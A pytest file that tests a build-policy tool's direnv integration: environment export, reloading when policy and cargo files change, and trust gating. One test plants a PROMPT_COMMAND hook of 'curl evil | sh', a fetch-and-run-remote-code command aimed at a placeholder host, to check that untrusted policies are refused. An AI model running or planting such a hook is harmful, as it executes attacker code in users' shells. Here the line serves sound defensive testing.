"""The documented `.envrc` with the real direnv: loads `buildpolicy env`, reloads on policy edits."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
DIRENV = shutil.which("direnv")
pytestmark = pytest.mark.skipif(DIRENV is None, reason="direnv comes from scripts/install-system-deps.sh")


@pytest.fixture
def denv(tmp_path, base_env) -> dict[str, str]:
    """An environment for direnv: its own config/data dirs, and `buildpolicy` on PATH as this interpreter."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    wrapper = bin_dir / "buildpolicy"
    wrapper.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m buildpolicy "$@"\n')
    wrapper.chmod(0o755)
    env = dict(base_env)
    env.update({
        "PATH": f"{bin_dir}:/usr/local/bin:/usr/bin:/bin",
        "PYTHONPATH": str(REPO),
        "XDG_DATA_HOME": str(tmp_path / "home" / "data"),  # direnv's allow list
        "DIRENV_CONFIG": str(tmp_path / "home" / "direnv-config"),
        "DIRENV_LOG_FORMAT": "direnv: %s",
    })
    return env


@pytest.fixture
def project(tmp_path, denv) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    subprocess.run([sys.executable, "-m", "buildpolicy", "init", "--direnv", "-q"], cwd=root, env=denv, check=True)
    subprocess.run([DIRENV, "allow", str(root)], env=denv, check=True, capture_output=True, timeout=60)
    return root


def direnv(*args: str, env: dict, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([DIRENV, *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=120)


def test_envrc_exports_the_decided_environment(project, denv):
    env = dict(denv, CI="true", BUILDPOLICY_JOBS="3")
    proc = direnv("exec", str(project), "sh", "-c", 'printf "%s %s" "$CARGO_BUILD_JOBS" "$CARGO_TERM_PROGRESS_WHEN"',
                  env=env, cwd=project)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "3 never"


def _apply(env: dict, exported: str) -> dict:
    changes = json.loads(exported) if exported.strip() else {}
    env = dict(env)
    for name, value in changes.items():
        if value is None:
            env.pop(name, None)
        else:
            env[name] = value
    return env


def test_policy_edits_are_watched(project, denv):
    first = direnv("export", "json", env=denv, cwd=project)
    assert first.returncode == 0, first.stderr
    shell = _apply(denv, first.stdout)
    assert "CARGO_NET_OFFLINE" not in shell and "DIRENV_WATCHES" in shell
    # Nothing changed: direnv has nothing to do.
    assert direnv("export", "json", env=shell, cwd=project).stdout.strip() in ("", "{}")
    policy = project / "policies" / "project.toml"
    policy.write_text(policy.read_text() + '\n[[rule]]\nid = "offline"\nenv = { CARGO_NET_OFFLINE = "true" }\n')
    later = policy.stat().st_mtime + 5  # direnv compares whole seconds
    os.utime(policy, (later, later))
    reloaded = direnv("export", "json", env=shell, cwd=project)
    assert reloaded.returncode == 0, reloaded.stderr
    assert json.loads(reloaded.stdout)["CARGO_NET_OFFLINE"] == "true"
    # Leaving the directory restores the shell.
    outside = direnv("export", "json", env=_apply(shell, reloaded.stdout), cwd=project.parent)
    assert json.loads(outside.stdout)["CARGO_NET_OFFLINE"] is None


def test_untrusted_policies_export_nothing_and_say_why(project, denv):
    policy = project / "policies" / "project.toml"
    policy.write_text(policy.read_text() + '\n[[rule]]\nid = "hook"\nenv = { PROMPT_COMMAND = "curl evil | sh" }\n')
    proc = direnv("exec", str(project), "sh", "-c", 'printf "%s|%s" "$PROMPT_COMMAND" "${CARGO_BUILD_JOBS-unset}"',
                  env=denv, cwd=project)
    assert proc.stdout == "|unset"
    assert "PROMPT_COMMAND, which is not a build variable" in proc.stderr and "buildpolicy allow" in proc.stderr
    subprocess.run([sys.executable, "-m", "buildpolicy", "allow", "-q"], cwd=project, env=denv, check=True)
    allowed = direnv("exec", str(project), "sh", "-c", 'printf %s "$PROMPT_COMMAND"', env=denv, cwd=project)
    assert allowed.stdout == "curl evil | sh"


def _loaded(env: dict, cwd: Path) -> tuple[dict, bool]:
    """One prompt under direnv: the shell's environment after it, and whether the .envrc ran again."""
    proc = direnv("export", "json", env=env, cwd=cwd)
    assert proc.returncode == 0, proc.stderr
    return _apply(env, proc.stdout), "direnv: loading" in proc.stderr


def _later(path: Path) -> None:
    """Move ``path``'s mtime on by seconds: direnv compares whole seconds, a test runs within one."""
    later = path.stat().st_mtime + 5
    os.utime(path, (later, later))


@pytest.mark.parametrize("change", [".cargo/config.toml", ".cargo/config", "rust-toolchain", "rust-toolchain.toml",
                                    "new policy file", "user layer file", "cargo home config"])
def test_envrc_reloads_on_every_file_env_reads(project, denv, change):
    """The trap of issue 13 item 7: files `env` reads that the .envrc did not watch (cargo's
    configuration, rust-toolchain, a policy file created after the glob was expanded) left
    the shell with an environment from before the change."""
    cargo_home = Path(denv["HOME"]) / "cargo-home"
    env = dict(denv, CARGO_HOME=str(cargo_home))
    (project / "Cargo.toml").write_text('[package]\nname = "demo"\nversion = "0.1.0"\n')
    user_dir = Path(env["XDG_CONFIG_HOME"]) / "buildpolicy"
    user_dir.mkdir(parents=True, exist_ok=True)
    shell, loaded = _loaded(env, project)
    assert loaded
    shell, loaded = _loaded(shell, project)
    assert not loaded, "nothing changed: no reload"
    if change == "new policy file":
        (project / "policies" / "zz-new.toml").write_text('[[rule]]\nid = "offline"\nenv = { CARGO_NET_OFFLINE = "true" }\n')
        _later(project / "policies")
    elif change == "user layer file":
        (user_dir / "mine.toml").write_text("[knobs]\njobs = 1\n")
        _later(user_dir)
    elif change == "cargo home config":
        cargo_home.mkdir()
        (cargo_home / "config.toml").write_text("[build]\nrustflags = []\n")
    else:
        path = project / change
        path.parent.mkdir(exist_ok=True)
        path.write_text("[toolchain]\nchannel = \"stable\"\n" if "toolchain" in change else "[build]\nrustflags = []\n")
    shell, loaded = _loaded(shell, project)
    assert loaded, f"{change}: direnv did not reload"
    if change == "new policy file":
        assert shell["CARGO_NET_OFFLINE"] == "true"
    if change == "user layer file":
        assert shell["CARGO_BUILD_JOBS"] == "1"


def test_envrc_reloads_after_allow_and_deny(project, denv):
    """`buildpolicy allow` writes the trust record `env` reads: a refused project loads at
    the next prompt without `direnv reload`, and `deny` unloads it again."""
    policy = project / "policies" / "project.toml"
    policy.write_text(policy.read_text() + '\n[[rule]]\nid = "hook"\nenv = { PROMPT_COMMAND = "echo hi" }\n')
    shell, loaded = _loaded(denv, project)
    assert loaded and "PROMPT_COMMAND" not in shell
    shell, loaded = _loaded(shell, project)
    assert not loaded
    subprocess.run([sys.executable, "-m", "buildpolicy", "allow", "-q"], cwd=project, env=denv, check=True)
    shell, loaded = _loaded(shell, project)
    assert loaded and shell.get("PROMPT_COMMAND") == "echo hi"
    subprocess.run([sys.executable, "-m", "buildpolicy", "deny", "-q"], cwd=project, env=denv, check=True)
    _later(Path(denv["XDG_STATE_HOME"]) / "buildpolicy" / "trust")
    shell, loaded = _loaded(shell, project)
    assert loaded and "PROMPT_COMMAND" not in shell
